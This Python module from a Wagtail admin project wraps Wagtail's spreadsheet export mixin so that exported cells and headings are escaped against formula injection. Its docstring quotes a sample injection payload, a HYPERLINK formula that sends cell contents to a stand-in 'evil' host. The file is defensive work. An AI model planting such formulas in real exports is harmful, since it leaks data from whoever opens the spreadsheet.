"""Formula-safe spreadsheet exports in the Wagtail admin (OWASP "CSV injection", ASVS 1.2.10).

Every admin listing with a ``list_export`` (employees, OPDs, positions, ...) and Wagtail's own
reports (site history, locked and aging pages, workflows, redirects, form submissions) offer
``?export=csv`` and ``?export=xlsx`` through Wagtail's ``SpreadsheetExportMixin``. Left alone
they write a cell such as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(...)`` as it is, and a
spreadsheet runs it. Here every text cell and heading of those exports goes through
:func:`lms.core.imports.cells.escape_formula`, the one function the import/export screens use,
so a value starting with ``= + - @``, TAB or CR gets one leading ``'`` (and re-imports as the
stored value).

Why the base class and not a mixin on each index view: a mixin reaches only the views this
project declares, and Wagtail's own report views (whose cells hold page titles and log labels
that editors write) are routed by Wagtail itself and cannot be swapped for subclasses. Wrapping
``SpreadsheetExportMixin`` once, in ``CoreConfig.ready()``, covers every export view present
and future with one implementation; ``tests/imports/test_list_exports.py`` walks the URLconf and
fails for any export view whose rows or headings bypass it (e.g. a subclass that writes its own
rows), and for any listing the project adds without being covered.
"""

from functools import wraps
from typing import Any

from wagtail.admin.views.mixins import SpreadsheetExportMixin

from .imports.cells import escape_formula

_INSTALLED = "_lms_formula_safe"


def formula_safe(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula."""
    if isinstance(value, str):
        return escape_formula(value)
    return value


def install() -> None:
    """Make every ``SpreadsheetExportMixin`` export formula-safe (idempotent).

    Wraps ``preprocess_field_value`` (every CSV and XLSX cell goes through it) and
    ``get_heading`` (headings may be editor-written, e.g. form field labels).
    """
    if getattr(SpreadsheetExportMixin, _INSTALLED, False):
        return
    preprocess = SpreadsheetExportMixin.preprocess_field_value
    heading = SpreadsheetExportMixin.get_heading

    @wraps(preprocess)
    def preprocess_field_value(self, field, value, export_format):
        return formula_safe(preprocess(self, field, value, export_format))

    @wraps(heading)
    def get_heading(self, queryset, field):
        return formula_safe(heading(self, queryset, field))

    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
    SpreadsheetExportMixin.get_heading = get_heading
    setattr(SpreadsheetExportMixin, _INSTALLED, True)
